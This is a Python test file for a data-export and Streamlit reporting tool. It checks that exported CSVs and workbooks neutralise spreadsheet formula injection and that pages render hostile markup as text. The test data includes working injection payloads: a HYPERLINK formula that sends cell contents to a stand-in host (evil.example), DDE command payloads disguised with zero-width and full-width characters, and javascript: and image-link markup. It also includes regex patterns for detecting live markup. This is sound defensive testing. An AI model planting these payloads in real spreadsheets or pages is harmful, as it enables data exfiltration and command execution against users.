"""Hostile text (issue 13 points 3-4): nothing a user or an import wrote leaves the tool as a live
formula (CSV from the command line, both workbooks), numbers stay numbers."""
from __future__ import annotations

import contextlib
import csv
import io
import re
from datetime import datetime

import pytest
from openpyxl import load_workbook

from opportunity_engine import cli, formatting
from opportunity_engine.store import db

# The probe's payloads and their disguises: leading spaces, zero-width characters, full-width forms.
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "   =1+1", "\u200b=1+1", "\ufeff+1", "\u00a0@x", "＝1+1", "＋cmd|' /C calc'!A0",
            "－2+3", "＠SUM(1)", " \u200b ＝HYPERLINK(\"x\")"]
HARMLESS = ["Emergency and Acute Medicine", "A&E", "e-mail", "5 - 3 = 2", "T&O (trauma)", ""]


def live(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula? Written independently of safe_text: drop
    what a spreadsheet may skip, fold full-width forms, look at the first character."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    skipped = "".join(ch for ch in cell if ch not in " \u00a0\u200b\u200c\u200d\u2060\ufeff\u3000")
    first = skipped[:1]
    return bool(first) and first in "=+-@＝＋－＠"


@pytest.mark.parametrize("text", FORMULAS)
def test_every_payload_is_neutralised_and_keeps_its_text(text):
    out = formatting.safe_text(text)
    assert live(text) and out == "'" + text  # prefixed, nothing else changed


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text):
    assert formatting.safe_text(text) == text and not live(text)


def test_safe_frame_keeps_numbers_numbers():
    import pandas as pd

    frame = pd.DataFrame({"name": ["=1+1", "ok", None], "gbp": [-1200.5, 3.0, float("nan")], "n": [-1, 2, 3]})
    out = formatting.safe_frame(frame)
    assert out["name"].tolist()[:2] == ["'=1+1", "ok"] and out["name"].isna().tolist()[2]
    assert out["gbp"].dtype == frame["gbp"].dtype and out["gbp"].tolist()[:2] == [-1200.5, 3.0]
    assert out["n"].tolist() == [-1, 2, 3]
    assert frame["name"].tolist()[0] == "=1+1"  # the caller's frame is not changed


def _plant(con, texts: list[str]) -> None:
    """Imported CSU and specialty names carry the payloads (as a hostile extract would)."""
    csus = [r[0] for r in con.execute("SELECT csu_code FROM csus ORDER BY 1").fetchall()]
    for code, text in zip(csus, texts):
        con.execute("UPDATE csus SET csu_name = ? WHERE csu_code = ?", [text + " csu", code])
    specs = [r[0] for r in con.execute("SELECT specialty_code FROM specialties ORDER BY 1").fetchall()]
    for i, code in enumerate(specs):
        con.execute("UPDATE specialties SET specialty_name = ? WHERE specialty_code = ?",
                    [FORMULAS[i % len(FORMULAS)], code])
    db.bump_data_version(con)  # names are cached per data version, as after a real import


def test_the_cli_csv_has_no_live_formula_and_numbers_stay_numbers(demo_copy):
    with db.connect(demo_copy) as con:
        _plant(con, FORMULAS)
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert cli.main(["opportunities", "--db", str(demo_copy), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    header, body = rows[0], rows[1:]
    assert body and len(body[0]) == len(header)
    bad = [cell for row in body for cell in row if live(cell) and not _number(cell)]
    assert bad == []
    names = {row[header.index("specialty_name")] for row in body}
    assert names & {"'" + f for f in FORMULAS}  # the payloads arrived, prefixed
    gbp = header.index("opportunity_gbp")
    assert all(_number(row[gbp]) for row in body)  # money is still a plain number


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_both_workbooks_have_no_live_text(demo_copy):
    from opportunity_engine.analysis.opportunities import Basis
    from opportunity_engine.delivery import plans, qia, schemes, workflow
    from opportunity_engine.reports.export import opportunities_workbook
    from opportunity_engine.reports.export_plans import plans_workbook
    from opportunity_engine.scope import Scope
    from opportunity_engine.users import User

    with db.connect(demo_copy) as con:
        _plant(con, FORMULAS)
        fin = User("fin", "＝HYPERLINK(\"x\")", "", "finance", ())
        csu = con.execute("SELECT min(csu_code) FROM csus").fetchone()[0]
        fy = 2026
        for evil in FORMULAS:
            s = schemes.create(con, fin, "x " + evil, csu, description=evil, lead=evil)
            s = workflow.update(con, fin, s.scheme_id, s.version, title=evil.strip() or "t", status="shortlisted")
            plans.save_plan(con, fin, s.scheme_id, s.version, fy, 1, 1200, milestones=evil)
            s = schemes.get(con, fin, s.scheme_id)
            qia.save_scores(con, fin, s.scheme_id, s.version, {d: (2, 2, evil) for d in qia.DOMAINS})
        plans.set_wrp_target(con, fin, csu, fy, 1000, "\u200b=cmd|' /C calc'!A0")
        books = {"opportunities": opportunities_workbook(con, Scope.trust(), Basis(), fin.name,
                                                         now=datetime(2026, 1, 2)),
                 "plans": plans_workbook(con, fin, fy)}
    for name, data in books.items():
        book = load_workbook(io.BytesIO(data))
        texts = [(ws.title, c.coordinate, c.value) for ws in book.worksheets for row in ws.iter_rows()
                 for c in row if isinstance(c.value, str) and c.data_type == "s"]
        assert texts
        bad = [t for t in texts if live(t[2])]
        assert bad == [], (name, bad[:5])
        assert any(v.startswith("'") and "HYPERLINK" in v for _, _, v in texts), name


# --- point 4: text is text --------------------------------------------------------------------

MARKUP = ('[click](http://evil.example/x) ![t](http://evil.example/t.png) <img src="http://evil.example/i.png"> '
          '<a href="javascript:alert(1)">j</a> [js](javascript:alert(1)) **bold** :red[red] $x^2$ www.evil.example')
# Live markup: what Streamlit's markdown would turn into a link, an image or HTML (a backslash
# before the character makes it literal).
LIVE = [re.compile(p) for p in (r"evil\.example", r"javascript:", r"(?<!\\)<(img|a)\b", r"(?<!\\)\[(click|js)(?<!\\)\]",
                                r"(?<!\\)!(?<!\\)\[t")]


def test_plain_escapes_every_markup_and_keeps_the_words():
    out = formatting.plain(MARKUP)
    assert not [m.pattern for m in LIVE if m.search(out)]
    assert [m.pattern for m in LIVE if m.search(MARKUP)] == [m.pattern for m in LIVE]  # each check can fail
    assert out.replace("\\", "") == MARKUP  # nothing lost: only backslashes added
    assert formatting.plain("line one\nline two") == "line one  \nline two"
    assert formatting.plain(None) == "" and formatting.plain("Emergency 2025") == "Emergency 2025"


def _plant_markup(path) -> None:
    """The payload in every stored text a page shows: CSU, specialty and metric names and
    sources, a published case study's title, description and lead, a QIA sign-off, a feedback
    comment and view, the users' names."""
    with db.connect(path) as con:
        con.execute("UPDATE csus SET csu_name = ? WHERE csu_code = 'EMA'", [MARKUP])
        con.execute("UPDATE specialties SET specialty_name = ? WHERE specialty_code = '326'", [MARKUP])
        con.execute("""UPDATE metrics SET metric_name = ?, definition = ?, data_source = ?, benchmark_source = ?,
                       scheme_ideas = [?], quality_risks = [?] WHERE metric_id = 'alos_non_elective'""",
                    [MARKUP] * 6)
        con.execute("UPDATE benchmarks SET source = ? WHERE metric_id = 'alos_non_elective'", [MARKUP])
        con.execute("UPDATE unit_costs SET source = ?", [MARKUP])
        con.execute("""UPDATE schemes SET title = ?, description = ?, lead = ?, status = 'delivered', case_study = true
                       WHERE scheme_id = 1""", [MARKUP] * 3)
        con.execute("UPDATE qia_signoffs SET name = ? WHERE scheme_id = 1", [MARKUP])
        con.execute("INSERT INTO feedback (username, page, view, rating, comment) VALUES ('csu', 'library', ?, 2, ?)",
                    [MARKUP, MARKUP])
        con.execute("UPDATE users SET name = ?", [MARKUP])
        db.bump_data_version(con)


def _rendered(at) -> list[str]:
    """Every string AppTest holds that Streamlit renders as markdown."""
    out = []
    for kind in ("markdown", "caption", "error", "info", "warning", "success", "title", "header", "subheader"):
        out += [str(e.value) for e in getattr(at, kind)]
    out += [m.label for m in at.metric] + [e.label for e in at.expander] + [t.label for t in at.tabs]
    for side in (at.sidebar,):
        out += [str(e.value) for e in side.markdown]
    return out


VISITS = [  # (user, page, link parameters): every page, with the planted records and hostile links
    ("admin", None, {}), ("csu", None, {}),
    ("csu", "pages/explore.py", {"csu": "EMA", "specialty": "326"}),
    ("csu", "pages/metric.py", {"csu": "EMA", "specialty": "326", "metric": "alos_non_elective"}),
    ("csu", "pages/shortlist.py", {"scheme": "1"}), ("finance", "pages/tracking.py", {"scheme": "1"}),
    ("csu", "pages/library.py", {}), ("admin", "pages/feedback.py", {}), ("admin", "pages/adoption.py", {}),
    ("admin", "pages/data.py", {}), ("csu", "pages/guide.py", {}),
    ("csu", None, {"csu": MARKUP}), ("csu", "pages/explore.py", {"csu": MARKUP}),
    ("csu", "pages/metric.py", {"csu": MARKUP, "specialty": MARKUP, "metric": MARKUP}),
    ("finance", "pages/tracking.py", {"csu": MARKUP}), ("finance", "pages/explore.py", {"csu": "EMA", "specialty": MARKUP}),
    ("csu", "pages/shortlist.py", {"scheme": MARKUP, "fy": MARKUP, "target": MARKUP, "benchmark": MARKUP}),
]


def test_planted_markup_and_hostile_links_render_as_literal_text(demo_copy, monkeypatch):
    from .test_app_pages import signed_in

    monkeypatch.setenv("OPPORTUNITY_DB", str(demo_copy))
    monkeypatch.setenv("OPPORTUNITY_COOKIE_KEY", "apptest-key")
    _plant_markup(demo_copy)
    shown_escaped = 0
    for username, page, params in VISITS:
        at = signed_in(username, page, **params)
        texts = _rendered(at)
        live = [(m.pattern, t[:120]) for t in texts for m in LIVE if m.search(t)]
        assert live == [], (username, page, params, live[:3])
        shown_escaped += any("evil\\.example" in t for t in texts)
    assert shown_escaped >= len(VISITS) - 5  # the payload did reach most pages, as text (not vacuous)
